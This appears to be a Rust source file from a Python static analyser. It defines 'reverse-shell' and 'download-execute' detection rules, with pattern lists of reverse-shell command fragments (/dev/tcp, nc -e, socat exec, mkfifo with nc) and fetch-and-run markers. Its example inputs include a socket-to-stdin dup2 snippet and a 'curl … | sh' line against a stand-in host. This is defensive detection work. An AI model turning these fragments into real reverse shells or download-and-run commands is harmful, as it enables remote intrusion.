//! `reverse-shell` and `download-execute`: others are given a shell, or what comes from them is run.

use ruff_python_ast::ExprCall;

use super::{Check, Rule};
use crate::finding::{Class, Confidence, Severity};
use crate::found::Found;
use crate::names::{Meaning, Piece, SourceKind, Values};
use crate::sight::{Sight, Used, executed};

pub(super) static REVERSE: Rule = Rule {
    id: "reverse-shell",
    class: Class::Threat,
    name: "reverse-shell",
    severity: Severity::High,
    confidence: Confidence::High,
    cwe: 506,
    summary: "a shell is connected to somebody elsewhere",
    why: "Whoever is at the other end then does what they like here.",
    help: "leave it out",
    fires: "import os, socket\ns = socket.socket()\nos.dup2(s.fileno(), 0)\n",
    silent: "import os\nos.dup2(log.fileno(), 1)\n",
    differs: None,
    check: Check::Sight(reverse),
};

pub(super) static DOWNLOAD: Rule = Rule {
    id: "download-execute",
    class: Class::Threat,
    name: "download-execute",
    severity: Severity::High,
    confidence: Confidence::High,
    cwe: 494,
    summary: "what comes from the network is run",
    why: "Whoever answers there decides what is run here.",
    help: "keep what is run with the script, and check its hash",
    fires: "import os\nos.system(\"curl http://x.example/a \u{7c} sh\")\n",
    silent: "import os\nos.system(\"curl -O http://x.example/a\")\n",
    differs: None,
    check: Check::Sight(download),
};

/// Commands with which shells are offered: all parts of one of these.
const OFFERS: &[&[&str]] = &[
    &["/dev/tcp/"],
    &["/dev/udp/"],
    &["nc ", " -e"],
    &["nc ", " -c "],
    &["ncat ", "-e"],
    &["netcat ", "-e"],
    &["mkfifo ", "nc "],
    &["mknod ", "nc "],
    &["socat ", "exec:"],
    &["socat ", "system:"],
    &["sh -i", ">&"],
    &["telnet ", "| /bin/"],
    &["openssl s_client", "/bin/sh"],
    &["ruby -rsocket"],
    &["perl -e", "socket"],
    &["php -r", "fsockopen"],
    &["lua -e", "socket"],
    &["xterm -display"],
    &["awk ", "/inet/"],
    &["powershell", "tcpclient"],
];

/// In a command that runs what it fetches: what fetches.
const FETCH: &[&str] = &[
    "curl ",
    "wget ",
    "invoke-webrequest",
    "iwr ",
    "downloadstring",
    "certutil -urlcache",
    "bitsadmin",
    "http://",
    "https://",
    "ftp://",
];

/// And what runs.
const RUN: &[&str] = &[
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "| python",
    "|python",
    "| sudo",
    "|sudo",
    "| perl",
    "| zsh",
    "| /bin/",
    "|/bin/",
    "iex",
    "<(curl",
    "<(wget",
    "$(curl",
    "$(wget",
    "`curl",
    "`wget",
    "chmod +x",
    "chmod 7",
    "chmod u+x",
    "&& sh ",
    "&& bash ",
    "; sh ",
    "; bash ",
    "&& ./",
    "; ./",
    "-encodedcommand",
    "&& python",
];

/// Every text that is given to something that starts programs, in lower case.
fn commands<'a>(sight: &Sight<'a, '_>, used: &Used<'a>, call: &'a ExprCall) -> Vec<String> {
    let mut commands = Vec::new();
    for value in sight.arguments(call, used.scope).into_iter().take(6).flatten() {
        let text = match &value {
            Meaning::List(list) => {
                list.iter().take(32).map(|values| text(values)).collect::<Vec<_>>().join(" ")
            }
            one => text(std::slice::from_ref(one)),
        };
        if text.len() > 3 && text.len() < 1 << 16 {
            commands.push(text.to_ascii_lowercase());
        }
    }
    commands
}

/// A text, with `*` where it has gaps.
fn text(values: &[Meaning<'_>]) -> String {
    match values {
        [Meaning::Text(text, _)] => text.to_string(),
        [Meaning::Bytes(bytes, _)] => String::from_utf8_lossy(bytes).into_owned(),
        [Meaning::Pattern(pieces)] => {
            let piece = |piece: &Piece| match piece {
                Piece::Text(text) => text.to_string(),
                Piece::Gap(_) => "*".into(),
            };
            pieces.iter().map(piece).collect()
        }
        _ => String::new(),
    }
}

fn is_socket(values: &Values<'_>) -> bool {
    values.iter().any(|value| matches!(value, Meaning::Result(name, ..) if name.starts_with("socket.")))
}

fn is_stream(values: &Values<'_>) -> bool {
    !matches!(values.as_slice(), [Meaning::Int(number)] if !(0..=2).contains(number))
}

fn reverse<'a>(sight: &Sight<'a, '_>, tell: &mut dyn FnMut(Found)) {
    let called =
        |name: &dyn Fn(&Used<'a>) -> bool| sight.uses.iter().any(|used| used.call().is_some() && name(used));
    let connects = called(&|used| {
        used.name.starts_with("socket.")
            && ["connect", "accept", "create_connection"].iter().any(|end| used.name.contains(end))
    });
    let starts = called(&|used| used.starts_program() || &*used.name == "code.interact");
    for used in &sight.uses {
        let Some(call) = used.call() else { continue };
        if used.starts_program() {
            let offers =
                |command: &String| OFFERS.iter().any(|parts| parts.iter().all(|part| command.contains(part)));
            if commands(sight, used, call).iter().any(offers) {
                tell(Found::at(&used.range).message("the command connects a shell to somebody elsewhere"));
            }
            let streams = ["stdin", "stdout", "stderr"];
            let mut streams = streams.iter().map(|name| sight.argument(call, used.scope, usize::MAX, name));
            if streams.any(|stream| is_socket(&stream)) || (&*used.name == "pty.spawn" && connects) {
                tell(Found::at(&used.range).message("a program is connected to a socket"));
            }
        }
        if matches!(&*used.name, "os.dup2" | "os.dup") {
            let from = is_socket(&sight.given(used, 0, "fd"));
            if is_stream(&sight.given(used, 1, "fd2")) && (from || (connects && starts)) {
                tell(Found::at(&used.range).message("a standard stream is connected to a socket"));
            }
        }
    }
}

fn download<'a>(sight: &Sight<'a, '_>, tell: &mut dyn FnMut(Found)) {
    let fetched = fetched_files(sight);
    for used in &sight.uses {
        let Some(call) = used.call() else { continue };
        if used.starts_program() {
            let commands = commands(sight, used, call);
            let runs = |command: &String| {
                FETCH.iter().any(|one| command.contains(one)) && RUN.iter().any(|one| command.contains(one))
            };
            if commands.iter().any(runs) {
                tell(Found::at(&used.range).message("the command runs what it fetches from the network"));
            }
            let words =
                [(0, "args"), (1, "argv")].map(|(at, name)| sight.argument(call, used.scope, at, name));
            if words.iter().any(|values| from_network(sight, values)) {
                tell(Found::at(&used.range).message("a command comes from the network"));
            }
            if let Some(path) =
                fetched.iter().find(|path| commands.iter().any(|command| command.contains(*path)))
            {
                tell(Found::at(&used.range).message(format!("`{path}` is fetched from the network and run")));
            }
            continue;
        }
        let loads = matches!(&*used.name, "pickle.loads" | "marshal.loads" | "types.CodeType");
        if from_network(sight, &executed(sight, used, call))
            || (loads && from_network(sight, &sight.given(used, 0, "")))
        {
            tell(Found::at(&used.range).message(format!("`{}` runs what comes from the network", used.name)));
        }
    }
}

fn from_network<'a>(sight: &Sight<'a, '_>, values: &Values<'a>) -> bool {
    sight.names.source(values).is_some_and(|source| source.kind == SourceKind::Network)
}

/// The paths of files that are fetched from the network.
fn fetched_files<'a>(sight: &Sight<'a, '_>) -> Vec<String> {
    let fetches = |used: &&Used<'a>| {
        matches!(
            &*used.name,
            "urllib.request.urlretrieve" | "urllib.urlretrieve" | "wget.download" | "gdown.download"
        )
    };
    let path = |used: &Used<'a>| text(&sight.given(used, 1, "filename")).to_ascii_lowercase();
    sight.uses.iter().filter(fetches).take(16).map(path).filter(|path| path.len() > 1).collect()
}
